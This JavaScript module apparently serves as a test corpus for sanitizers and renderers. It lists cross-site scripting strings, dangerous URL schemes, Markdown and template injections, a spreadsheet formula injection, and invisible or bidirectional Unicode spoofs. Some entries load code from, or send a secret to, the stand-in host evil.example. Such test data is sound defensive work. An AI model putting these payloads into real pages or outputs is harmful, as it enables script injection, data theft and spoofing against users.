// More than a hundred texts that turn into something else where text is taken for markup, a link, a script, or an
// instruction to whoever draws it. Each that would run calls `pwned`.

const scripts = [
  "<script>pwned()</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<script>pwned()//",
  "</script><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "</title><script>pwned()</script>",
  "</style><script>pwned()</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script type=module>import('//evil.example')</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
];
const tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe src=//evil.example", "object data=x", "embed src=x", "marquee", "math", "select autofocus", "textarea autofocus", "style"];
const events = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover"];
const handlers = tags.flatMap((tag, index) => [0, 1, 2].map((step) => `<${tag} ${events[(index + step * 2) % events.length]}=pwned()>`));
const links = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "data:image/svg+xml,<svg onload=pwned()>",
  "vbscript:pwned()",
  "[click](javascript:pwned())",
  "![x](https://evil.example/pixel.png)",
  "[x](https://evil.example \"onmouseover=pwned()\")",
  "<https://evil.example>",
  "<a href=javascript:pwned()>click</a>",
  "<a href=\"https://evil.example\">click</a>",
  "https://evil.example/?q=secret",
  "//evil.example/x",
  "<form action=//evil.example><button>Go</button></form>",
  "<base href=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<svg><a href=javascript:pwned()><text>x</text></a></svg>",
];
const markup = [
  "<b>bold</b>", "<!--", "-->", "<![CDATA[x]]>", "&lt;script&gt;", "&#x3c;img src=x onerror=pwned()&#x3e;", "<svg><script>pwned()</script></svg>",
  "<math><mtext></p><img src=x onerror=pwned()>", "\"><img src=x onerror=pwned()>", "'><img src=x onerror=pwned()>", "` onmouseover=pwned() `",
  "{{constructor.constructor('pwned()')()}}", "${pwned()}", "<%= pwned() %>", "#{pwned()}", "@import url(//evil.example)", "background:url(//evil.example)",
  "`code`<img src=x onerror=pwned()>", "```html\n<img src=x onerror=pwned()>\n```", "**<img src=x onerror=pwned()>**", "# <script>pwned()</script>",
  "| a | b |\n| - | - |\n| <img src=x onerror=pwned()> | x |", "- <img src=x onerror=pwned()>", "<template><img src=x onerror=pwned()></template>",
  "<slot onslotchange=pwned()>", "<x-y onclick=pwned()>", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")",
];
const invisible = [
  "safe\u202Etxt.exe", "\u202Eevil", "\u2066left\u2069", "\u2067right\u2069", "zero\u200Bwidth", "\u200Emark", "\u200Fmark", "\u061Cmark", "so\u00ADft", "bom\uFEFF", "\u0007bell", "\u001B[31mred", "line\u2028break",
  "del\u007F", "\u0085next", "e\u0301\u0301\u0301\u0301", "ａｄｍｉｎ", "\uD83D\uDE00", "\uFFFE",
  "tags\u{E0041}\u{E0042}\u{E007F}", "shape\u206Aswap", "join\u034Fer", "filler\u115F\u1160\u3164\uFFA0", "blank\u2800", "khmer\u17B4\u17B5", "अनुच्छेद", "مرحبا", "שלום",
];

export const PAYLOADS = [...scripts, ...handlers, ...links, ...markup, ...invisible];
